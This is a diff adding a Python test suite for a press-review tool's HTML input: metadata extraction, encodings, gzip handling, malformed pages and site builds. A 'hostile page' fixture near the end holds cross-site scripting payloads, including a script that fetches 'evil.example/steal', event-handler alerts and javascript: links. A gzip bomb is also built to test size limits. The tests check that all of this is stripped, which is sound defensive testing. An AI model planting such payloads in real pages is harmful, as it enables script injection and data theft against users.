@@ -1,0 +1,398 @@
+"""HTML input (issue 9): reading pages with trafilatura, their metadata, the visible text that
+is not article text, encodings, gzip, sniffing, bad pages, and real builds."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import re
+import shutil
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings as hsettings, strategies as st
+
+from audit import audit_html
+from conftest import ROOT, make_project, run_build
+from pressreview import analyse, normalise, read, webpage
+from pressreview.model import Article
+from pressreview.settings import load_settings
+
+SETTINGS = load_settings(ROOT)
+
+ARTICLE = """\
+<p>The city council of Riverton approved the new budget on Tuesday after a debate that lasted
+more than six hours, with seven votes in favour and two against.</p>
+<h2>What the budget pays for</h2>
+<p>Most of the money goes to schools and to the repair of roads and bridges that were damaged
+in the spring floods, the mayor said at a press conference after the vote.</p>
+<ul><li>Schools get 40 million dollars for new buildings.</li><li>Roads and bridges get 25 million dollars.</li></ul>
+<blockquote><p>This budget is a promise to the families of Riverton and we will keep it.</p></blockquote>
+<p>The opposition said the plan relies on tax revenue that may never arrive, and asked for a
+review of the figures by an independent auditor before the end of the year.</p>
+<p>The council will publish the detailed figures on its website next week, a spokesperson said.</p>
+"""
+
+
+def page(article: str = ARTICLE, head: str = "", nav: str = "", footer: str = "", lang: str = "en") -> str:
+    return f"""<!DOCTYPE html>
+<html lang="{lang}"><head><meta charset="utf-8">
+<title>Council approves budget | Riverton Daily</title>
+<meta property="og:title" content="Council approves budget">
+<meta property="og:site_name" content="Riverton Daily">
+<meta name="author" content="Jane Miller">
+<meta property="article:published_time" content="2024-03-05T10:00:00Z">
+<link rel="canonical" href="https://riverton-daily.example/2024/03/05/council-approves-budget">
+{head}</head>
+<body>
+<header><nav><ul><li><a href="/">Home</a></li><li><a href="/politics">Politics</a></li>
+<li><a href="/sports">Sports</a></li></ul></nav>{nav}</header>
+<main><article><h1>Council approves budget</h1>
+{article}
+</article></main>
+<footer><p>Copyright Riverton Daily Media Group, all rights reserved.</p>{footer}</footer>
+</body></html>
+"""
+
+
+def read_one(tmp_path: Path, name: str, data: bytes | str, limit: int = read.DEFAULT_MAX_FILE_BYTES):
+    path = tmp_path / name
+    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
+    return read.read_file(path, tmp_path, limit)
+
+
+def article_of(doc) -> Article:
+    return normalise.normalise(doc, SETTINGS)
+
+
+def kept_words(article: Article) -> str:
+    """The text of the article's own blocks (title, headings, paragraphs, lists), no asides."""
+    parts = [article.title]
+    for b in article.blocks:
+        if b.kind != "aside":
+            parts += [b.text] + [t for _, t in b.items]
+    return " ".join(" ".join(parts).split())
+
+
+def aside_words(article: Article) -> str:
+    return " ".join(t for b in article.blocks if b.kind == "aside" for _, t in b.items)
+
+
+# ---------------------------------------------------------------- finding and reading pages
+
+def test_html_suffixes_are_inputs_and_their_sidecars_are_found(tmp_path):
+    for name in ("a.html", "b.HTM", "c.html.gz", "d.htm.gz", "e.txt", "f.gz", "g.tar.gz", ".html.gz"):
+        (tmp_path / name).write_bytes(b"x")
+    files, _ = read.find_inputs(tmp_path)
+    assert [p.name for p in files] == ["a.html", "b.HTM", "c.html.gz", "d.htm.gz", "e.txt"]
+    assert read.input_suffix("c.html.gz") == ".html.gz" and read.input_suffix("x.gz") == ".gz"
+
+    (tmp_path / "c.html.gz").write_bytes(gzip.compress(page().encode()))
+    (tmp_path / "c.yml").write_text("title: The sidecar title\npublisher: Sidecar Media\n")
+    doc = read.read_file(tmp_path / "c.html.gz", tmp_path)
+    art = article_of(doc)
+    assert (art.title, art.title_source, art.outlet) == ("The sidecar title", "sidecar", "Sidecar Media")
+    # the page's own headline is not lost: it becomes a heading
+    assert any(b.kind == "heading" and b.text == "Council approves budget" for b in art.blocks)
+
+
+def test_a_page_gives_structure_and_metadata(tmp_path):
+    doc = read_one(tmp_path, "budget.html", page())
+    assert doc.fmt == "html" and doc.encoding == "utf-8"
+    art = article_of(doc)
+    assert (art.title, art.title_source) == ("Council approves budget", "page")
+    assert (art.date, art.date_source) == ("2024-03-05", "page")
+    assert (art.language, art.language_source) == ("en", "page")
+    assert art.author == "Jane Miller"
+    assert art.outlet == "Riverton Daily"
+    assert art.canonical_url == "https://riverton-daily.example/2024/03/05/council-approves-budget"
+    kinds = [(b.kind, b.text[:30]) for b in art.blocks if b.kind != "aside"]
+    assert ("heading", "What the budget pays for") in kinds
+    lists = [b for b in art.blocks if b.kind == "list"]
+    assert lists and [t for _, t in lists[0].items] == ["Schools get 40 million dollars for new buildings.",
+                                                         "Roads and bridges get 25 million dollars."]
+    assert "This budget is a promise to the families of Riverton" in kept_words(art)
+    # navigation and footer are not article text, but not lost either
+    asides = {b.reason: [t for _, t in b.items] for b in art.blocks if b.kind == "aside"}
+    assert all(b.rule == "html_page" for b in art.blocks if b.kind == "aside")
+    before, after = normalise.load_layout()["html_dropped"]["en"]["before"], normalise.load_layout()["html_dropped"]["en"]["after"]
+    assert asides[before] == ["Home", "Politics", "Sports"]
+    assert asides[after] == ["Copyright Riverton Daily Media Group, all rights reserved."]
+    assert "Copyright" not in kept_words(art) and "Politics" not in kept_words(art)
+
+
+def test_front_matter_keys_fill_author_outlet_and_url_for_text(tmp_path):
+    text = "---\nauthor: Jane Miller\npublisher: Riverton Daily\nurl: https://example.org/a\n---\n\nA text.\n"
+    art = article_of(read_one(tmp_path, "a.txt", text))
+    assert (art.author, art.outlet, art.canonical_url) == ("Jane Miller", "Riverton Daily", "https://example.org/a")
+    bad = "---\nurl: javascript:alert(1)\nauthor: [1, 2]\n---\n\nA text.\n"
+    art = article_of(read_one(tmp_path, "b.txt", bad))
+    assert (art.author, art.canonical_url) == ("", "")
+    assert any("'url'" in w and "not an http(s) address" in w for w in art.warnings)
+    assert any("'author' must be a non-empty text" in w for w in art.warnings)
+
+
+def test_a_page_url_that_is_not_http_is_dropped_with_a_warning(tmp_path):
+    html = page().replace("https://riverton-daily.example/2024/03/05/council-approves-budget", "javascript:alert(1)")
+    doc = read_one(tmp_path, "a.html", html)
+    art = article_of(doc)
+    assert art.canonical_url == ""
+    assert not any("javascript" in str(v) for v in doc.page.values())
+
+
+def test_page_date_out_of_range_is_left_unknown(tmp_path):
+    doc = read.RawDocument("a.html", "html", "Some text.\n", "", "utf-8")
+    warnings: list[str] = []
+    found = webpage.Page("Some text.\n", "Some text.", {"date": "1960-01-01", "title": "T"})
+    meta = read.page_meta(found, warnings)
+    assert "date" not in meta and "outside 1970-01-01" in warnings[0]
+    assert doc.page == {}
+
+
+# ---------------------------------------------------------------- encodings
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
+def test_utf16_without_bom_is_read(tmp_path, encoding):
+    html = page(lang="de", article="<p>Die Bürgerinnen und Bürger von Köln stimmten über das Budget ab, "
+                                   "das größere Ausgaben für Schulen vorsieht und heute beschlossen wurde.</p>" * 3)
+    doc = read_one(tmp_path, "a.html", html.replace('<meta charset="utf-8">', "").encode(encoding))
+    assert doc.encoding == encoding
+    assert "Bürgerinnen" in kept_words(article_of(doc))
+
+
+def test_cp1252_without_meta_charset_is_read(tmp_path):
+    html = page(article="<p>Der Umsatz stieg auf 5 Millionen € – ein Plus, das die Bürger überraschte, "
+                        "sagte der Bürgermeister am Dienstag in Köln vor der Presse.</p>" * 3)
+    doc = read_one(tmp_path, "a.html", html.replace('<meta charset="utf-8">', "").encode("cp1252"))
+    assert doc.encoding == "cp1252"
+    text = kept_words(article_of(doc))
+    assert "5 Millionen € – ein Plus" in text and "Bürgermeister" in text
+
+
+def test_meta_charset_wins_over_detection_and_latin1_means_cp1252(tmp_path):
+    body = "<p>Ein Preis von 20 € für Café und Crème brûlée, meinte der Wirt am Abend in Straßburg.</p>" * 3
+    html = page(article=body).replace('<meta charset="utf-8">', '<meta http-equiv="Content-Type" '
+                                                                'content="text/html; charset=ISO-8859-1">')
+    doc = read_one(tmp_path, "a.html", html.encode("cp1252"))
+    assert doc.encoding == "cp1252"
+    assert "20 € für Café und Crème brûlée" in kept_words(article_of(doc))
+    # a declared charset that does not fit the bytes: detected instead, with a warning
+    doc = read_one(tmp_path, "b.html", page(article=body).replace("utf-8", "shift_jis").encode("utf-8"))
+    assert "Crème brûlée" in kept_words(article_of(doc)) and doc.encoding == "utf-8"
+    assert "declares charset 'shift_jis' but is UTF-8" in doc.warnings[0]
+    doc = read_one(tmp_path, "c.html", page(article=body).replace("utf-8", "no-such-charset").encode("cp1252"))
+    assert "für Café" in kept_words(article_of(doc)) and "Straßburg" in kept_words(article_of(doc))
+    assert "unknown charset 'no-such-charset'" in doc.warnings[0]
+
+
+# ---------------------------------------------------------------- gzip
+
+def test_gzipped_page_is_read_and_sha_is_of_the_file(tmp_path):
+    data = gzip.compress(page().encode(), mtime=0)
+    doc = read_one(tmp_path, "a.html.gz", data)
+    assert doc.fmt == "html" and article_of(doc).outlet == "Riverton Daily"
+    import hashlib
+
+    assert doc.sha256 == hashlib.sha256(data).hexdigest()
+
+
+def test_gzip_bomb_and_broken_gzip_are_rejected_with_a_reason(tmp_path):
+    bomb = gzip.compress(b"<html><body><p>" + b"a" * 200_000_000 + b"</p></body></html>", compresslevel=9)
+    assert len(bomb) < 1_000_000
+    (tmp_path / "bomb.html.gz").write_bytes(bomb)
+    (tmp_path / "cut.html.gz").write_bytes(gzip.compress(page().encode())[:200])
+    (tmp_path / "plain.html.gz").write_bytes(page().encode())
+    (tmp_path / "ok.html").write_text(page())
+    start = time.perf_counter()
+    docs, rejected = read.read_corpus(tmp_path)
+    assert time.perf_counter() - start < 30  # (the bomb is not inflated beyond the limit)
+    assert [d.source_path for d in docs] == ["ok.html"]
+    reasons = {r.source_path: r.reason for r in rejected}
+    assert "decompresses to more than the limit max_file_bytes = 5 MB" in reasons["bomb.html.gz"]
+    assert "truncated gzip" in reasons["cut.html.gz"]
+    assert "not a valid gzip file" in reasons["plain.html.gz"]
+
+
+# ---------------------------------------------------------------- sniffing .txt / .md
+
+@pytest.mark.parametrize("start", ["<!DOCTYPE html>\n<html>", "<html lang='en'>", "\ufeff  <!doctype HTML><html>",
+                                   "<?xml version='1.0'?>\n<!-- saved -->\n<html>", "<div>\n<head><title>x</title></head><body>"])
+def test_html_saved_as_txt_is_read_as_html_with_a_warning(tmp_path, start):
+    html = page().replace("<!DOCTYPE html>\n<html lang=\"en\">", start)
+    doc = read_one(tmp_path, "a.txt", html)
+    assert doc.fmt == "html"
+    assert any("named .txt but holds an HTML page" in w for w in doc.warnings)
+    art = article_of(doc)
+    assert not art.title.startswith("<") and "<" not in kept_words(art)
+    assert not [b for b in art.blocks if b.kind == "heading" and ("{" in b.text or "<" in b.text)]
+
+
+@pytest.mark.parametrize("text", ["A text about HTML: the <body> tag holds the page.\n",
+                                  "# Notes\n\n<html> is the root element.\n", "Plain text.\n<head> later\n"])
+def test_text_that_mentions_html_is_not_sniffed(tmp_path, text):
+    doc = read_one(tmp_path, "a.md", text)
+    assert doc.fmt == "md" and not doc.warnings
+
+
+# ---------------------------------------------------------------- nothing lost (properties)
+
+_WORD = st.text(st.sampled_from("abcdefghijklmnopqrstuvwxyzäöüßABCXYZ0123456789*_#`[]()<>&!|\\-+.:;'\"=~{}"),
+                min_size=1, max_size=10)
+_PARA = st.lists(_WORD, min_size=8, max_size=40).map(" ".join)
+
+
+def _html_escape(text: str) -> str:
+    import html
+
+    return html.escape(text, quote=False)
+
+
+@hsettings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(_PARA, min_size=3, max_size=8), st.lists(_WORD, min_size=1, max_size=12))
+def test_every_word_trafilatura_keeps_reaches_the_article(paras, nav):
+    body = "".join(f"<p>{_html_escape(p)}</p>" for p in paras)
+    html = page(article=body, nav="<ul>" + "".join(f"<li>{_html_escape(w)}</li>" for w in nav) + "</ul>")
+    found = webpage.read_page(html)
+    doc = read.RawDocument("a.html", "html", found.markdown, "", "utf-8", page=read.page_meta(found, []))
+    art = article_of(doc)
+    text = " " + " ".join(b.text + " " + " ".join(t for _, t in b.items) for b in art.blocks) + " "
+    text = " ".join(text.split())
+    for word in found.text.split():
+        assert word in text
+    # and every visible word of the page is in the article or in an aside
+    everything = " ".join((art.title + " " + text).split())
+    for line in webpage.visible_lines(webpage.load_html(html)):
+        for word in line.split():
+            assert word in everything, word
+
+
+def test_visible_lines_skip_what_a_reader_does_not_see():
+    html = ("<html><head><title>Head title</title><style>p{color:red}</style></head><body>"
+            "<script>var secret = 1;</script><template><p>tpl</p></template><noscript>Enable JS</noscript>"
+            "<p>One <b>bold</b> line<br>next</p><!-- a comment --><div>Two<img alt='an alt text'></div>"
+            "<iframe src='x'>frame text</iframe>tail</body></html>")
+    lines = webpage.visible_lines(webpage.load_html(html))
+    assert lines == ["One bold line", "next", "Two", "tail"]
+
+
+def test_a_page_with_50000_words_of_navigation_stays_fast(tmp_path):
+    nav = "<ul>" + "".join(f"<li><a href='/s{i}'>Section {i} news</a></li>" for i in range(16_667)) + "</ul>"
+    html = page(nav=nav)
+    assert len(re.findall(r"\w+", nav)) > 50_000
+    start = time.perf_counter()
+    art = article_of(read_one(tmp_path, "a.html", html))
+    seconds = time.perf_counter() - start
+    assert seconds < 60, seconds  # (measured: see the report; a hang guard, not a benchmark)
+    assert "Section 16666 news" in aside_words(art)
+    assert "Section" not in kept_words(art)
+    assert "The council will publish the detailed figures" in kept_words(art)
+
+
+def test_asides_are_never_claim_marked(tmp_path):
+    nav = "<p>Experts say the stock could soar and might double, the best investment of the century!</p>"
+    art = article_of(read_one(tmp_path, "a.html", page(nav=nav)))
+    assert "could soar" in aside_words(art)
+    analysed = analyse.analyse(art, SETTINGS)
+    assert analysed.sentences
+    assert not any("could soar" in s.text for s in analysed.sentences)
+
+
+# ---------------------------------------------------------------- bad pages
+
+def test_bad_pages_give_a_reason_or_an_article_never_a_crash(tmp_path):
+    cases = {
+        "malformed.html": "<html><body><div><p>Unclosed paragraph <b>bold <i>both</b> words</i>"
+                          + "<p>The budget vote took six hours and ended late at night in the town hall. " * 10
+                          + "<table><tr><td>cell</div></body>",
+        "truncated.html": page()[: len(page()) * 2 // 3],
+        "empty.html": "",
+        "nomain.html": "<html><body><nav><a href='/'>Home</a> <a href='/x'>News</a></nav></body></html>",
+        "binary.html": "\x00\x01\x02" * 3000,
+        "fragment.html": "<p>" + "Just one paragraph of text without any page around it at all. " * 5 + "</p>",
+        "nested.html": "<div>" * 5000 + "<p>Deeply nested text that goes on and on for a while.</p>" * 10 + "</div>" * 5000,
+    }
+    for name, content in cases.items():
+        (tmp_path / name).write_text(content, encoding="utf-8")
+    docs, rejected = read.read_corpus(tmp_path)
+    reasons = {r.source_path: r.reason for r in rejected}
+    read_ok = {d.source_path: d for d in docs}
+    assert "malformed.html" in read_ok and "truncated.html" in read_ok
+    assert "The budget vote took six hours" in kept_words(article_of(read_ok["malformed.html"]))
+    assert "Most of the money goes to schools" in kept_words(article_of(read_ok["truncated.html"]))
+    assert reasons["empty.html"] == "empty file"
+    assert reasons["nomain.html"].startswith("no article text found in the HTML page (2 word(s) of visible text")
+    assert "binary" in reasons["binary.html"]
+    assert set(read_ok) | set(reasons) == set(cases)
+    for doc in docs:
+        article_of(doc)  # never a crash
+
+
+def test_a_20_mb_page_is_rejected_unread_and_read_with_a_raised_limit(tmp_path):
+    para = "<p>" + "The council debated the budget for the town's schools and roads. " * 20 + "</p>\n"
+    html = page(article=para * (20_000_000 // len(para)))
+    path = tmp_path / "big.html"
+    path.write_text(html)
+    assert path.stat().st_size > 19_000_000
+    docs, rejected = read.read_corpus(tmp_path)
+    assert not docs and rejected[0].reason.startswith("is 20 MB, larger than the limit max_file_bytes = 5 MB")
+
+
+# ---------------------------------------------------------------- real builds
+
+HOSTILE = """
+<script>document.title='pwned'; fetch('https://evil.example/steal')</script>
+<style>body{display:none}</style>
+<iframe src="https://evil.example/frame"></iframe>
+<p onclick="alert('click')" onmouseover="alert(1)">The mayor said the new budget pays for schools and roads
+and that the council will publish the figures next week on its website for everyone to read.</p>
+<p>Read <a href="javascript:alert('link')">the full report</a> and <a href="https://example.org/report">the summary</a>
+of the budget, which the council adopted after a long debate with seven votes to two.</p>
+<p>&lt;script&gt;alert('text')&lt;/script&gt; appeared in a comment that a reader posted under the article about the vote.</p>
+<img src="x" onerror="alert('img')"><svg onload="alert('svg')"><text>svg text</text></svg>
+"""
+
+
+def test_a_folder_of_pages_builds_with_outlet_url_date_and_nothing_live(tmp_path):
+    inputs = tmp_path / "pages"
+    inputs.mkdir()
+    (inputs / "budget.html").write_text(page())
+    (inputs / "hostile.html").write_text(page(article=HOSTILE + ARTICLE, head="<script>alert('head')</script>")
+                                         .replace("Council approves budget", "Hostile page <b onclick=x>title</b>"))
+    real = ROOT / "tests" / "realnews" / "pages" / "scrapinghub"
+    real_pages = sorted(real.glob("*.html.gz"))[:1] if real.is_dir() else []
+    for p in real_pages:
+        shutil.copy(p, inputs / p.name)
+    project = make_project(tmp_path, inputs)
+    result = run_build(project, "build", "--input", str(inputs), "--strict")
+    assert result.returncode == 0, result.stderr
+    data = json.loads((project / "docs" / "data" / "analysis.json").read_text())
+    by_path = {a["source_path"]: a for a in data["articles"]}
+    budget = by_path["budget.html"]
+    assert (budget["outlet"], budget["date"], budget["author"]) == ("Riverton Daily", "2024-03-05", "Jane Miller")
+    assert budget["canonical_url"] == "https://riverton-daily.example/2024/03/05/council-approves-budget"
+    site = project / "site"
+    built = (site / "articles" / budget["id"] / "index.html").read_text()
+    meta_line = re.search(r'<p class="pr-meta">(.*?)</p>', built, re.S).group(1)
+    assert "Outlet: Riverton Daily" in meta_line and "Author: Jane Miller" in meta_line
+    assert '<a href="https://riverton-daily.example/2024/03/05/council-approves-budget">' in meta_line
+    assert meta_line.startswith("2024-03-05")
+    assert "Most of the money goes to schools" in built
+    index = (site / "articles" / "index.html").read_text()
+    assert "Riverton Daily" in index
+    for p in real_pages:
+        art = by_path[p.name]
+        assert art["outlet"] and art["title_source"] == "page"
+
+    hostile = by_path["hostile.html"]
+    text = (site / "articles" / hostile["id"] / "index.html").read_text()
+    content = re.search(r'<article class="md-content__inner md-typeset">(.*?)</article>', text, re.S).group(1)
+    assert not audit_html(content), audit_html(content)
+    assert not re.search(r"<(script|iframe|style|svg|img|object|embed)\b", content, re.I)
+    # in the whole page (Material's own scripts aside): no handler, no javascript: link, nothing of the page's
+    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=|<[a-z][^>]*\s(href|src)=\"?\s*javascript:", text, re.I)
+    assert "evil.example" not in text
+    assert "the full report" in content
+    assert "The mayor said the new budget pays for schools" in content
+    assert "&lt;script&gt;alert" in content  # the page's text about a script is shown as text
+    assert "pwned" not in content
